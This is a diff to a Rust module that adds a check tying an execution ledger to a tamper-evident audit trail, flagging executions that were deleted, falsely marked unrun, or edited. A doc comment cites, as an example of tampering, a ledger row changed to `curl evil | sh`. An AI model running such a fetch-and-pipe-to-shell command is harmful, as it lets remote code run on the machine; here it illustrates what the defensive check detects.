@@ -324,6 +324,134 @@ pub async fn insert_pending(tx: &mut sqlx::SqliteConnection, r: &NewExecution) -
     .map(|_| ())
 }
 
+/// The first execution the ledger holds otherwise than the audit trail recorded it, and
+/// how — the ledger is plain rows, the trail chained and keyed, so a row edited with
+/// sqlite3 (`echo …` made `curl evil | sh`) is named here rather than shown as what ran.
+/// Every `launch.intent` (a launch's own, or its approval's consumption) must name an
+/// execution that ran, with the command, directory and profile it recorded; and every
+/// execution that ran must have one. Reads the trail in pages (bounded memory); the
+/// trail's own rows are checked by `Audit::verify`.
+pub async fn tie_to_trail(pool: &SqlitePool) -> sqlx::Result<Tie> {
+    let mut tie = Tie::default();
+    let mut after = 0i64;
+    loop {
+        let page: Vec<(i64, String, String)> = sqlx::query_as(
+            "SELECT seq, subject, detail FROM audit WHERE kind = 'launch.intent' AND seq > ?
+             ORDER BY seq LIMIT 500",
+        )
+        .bind(after)
+        .fetch_all(pool)
+        .await?;
+        let Some(last) = page.last() else { break };
+        after = last.0;
+        for (seq, subject, detail) in page {
+            tie.intents += 1;
+            if tie.broken.is_some() {
+                continue;
+            }
+            let detail: serde_json::Value = serde_json::from_str(&detail).unwrap_or_default();
+            let id = detail["execution_id"]
+                .as_str()
+                .filter(|i| !i.is_empty())
+                .unwrap_or(&subject)
+                .to_string();
+            let row = sqlx::query("SELECT status, argv, cwd, profile FROM executions WHERE id = ?")
+                .bind(&id)
+                .fetch_optional(pool)
+                .await?;
+            let Some(row) = row else {
+                tie.broken = Some((
+                    id,
+                    format!(
+                        "its launch.intent (audit seq {seq}) names it, and the ledger has no such execution (deleted)"
+                    ),
+                ));
+                continue;
+            };
+            let status: String = row.get("status");
+            if matches!(status.as_str(), "pending_approval" | "rejected") {
+                tie.broken = Some((
+                    id,
+                    format!(
+                        "the ledger says it never ran ({status}), and its launch.intent (audit seq {seq}) says it was started"
+                    ),
+                ));
+                continue;
+            }
+            let argv: serde_json::Value =
+                serde_json::from_str(&row.get::<String, _>("argv")).unwrap_or_default();
+            let held = [
+                ("command", argv),
+                ("directory", row.get::<String, _>("cwd").into()),
+                ("profile", row.get::<String, _>("profile").into()),
+            ];
+            // Approvals consumed before they recorded these hold none to compare.
+            if let Some((what, _)) =
+                held.iter()
+                    .zip(["argv", "cwd", "profile"])
+                    .find_map(|((what, value), key)| {
+                        detail.get(key).filter(|v| *v != value).map(|_| (*what, ()))
+                    })
+            {
+                tie.broken = Some((
+                    id,
+                    format!(
+                        "its {what} in the ledger is not the one its launch.intent (audit seq {seq}) recorded: the ledger was edited"
+                    ),
+                ));
+            }
+        }
+    }
+    let ran: i64 = sqlx::query_scalar(
+        "SELECT COUNT(*) FROM executions WHERE status NOT IN ('pending_approval', 'rejected')",
+    )
+    .fetch_one(pool)
+    .await?;
+    tie.ran = u64::try_from(ran).unwrap_or(0);
+    if tie.broken.is_none() && tie.ran > tie.intents {
+        // One that ran with no intent: found by its id (or its approval's).
+        let mut after = String::new();
+        'find: loop {
+            let ids: Vec<String> = sqlx::query_scalar(
+                "SELECT id FROM executions WHERE status NOT IN ('pending_approval', 'rejected')
+                 AND id > ? ORDER BY id LIMIT 500",
+            )
+            .bind(&after)
+            .fetch_all(pool)
+            .await?;
+            let Some(last) = ids.last() else { break };
+            after = last.clone();
+            for id in ids {
+                let intent: Option<i64> = sqlx::query_scalar(
+                    "SELECT seq FROM audit WHERE kind = 'launch.intent' AND (subject = ?1
+                     OR subject IN (SELECT id FROM approvals WHERE execution_id = ?1)) LIMIT 1",
+                )
+                .bind(&id)
+                .fetch_optional(pool)
+                .await?;
+                if intent.is_none() {
+                    tie.broken = Some((
+                        id,
+                        "the ledger says it ran, and the audit trail holds no launch.intent for it: the ledger was edited".into(),
+                    ));
+                    break 'find;
+                }
+            }
+        }
+    }
+    Ok(tie)
+}
+
+/// What [`tie_to_trail`] found.
+#[derive(Debug, Default)]
+pub struct Tie {
+    /// `launch.intent` records read, and executions the ledger says ran.
+    pub intents: u64,
+    pub ran: u64,
+    /// The first execution held otherwise than recorded, and how.
+    pub broken: Option<(String, String)>,
+}
+
 /// Who did something, as the audit trail names them: `role` or `role:principal`.
 pub fn actor(role: &str, principal: &str) -> String {
     if principal.is_empty() {
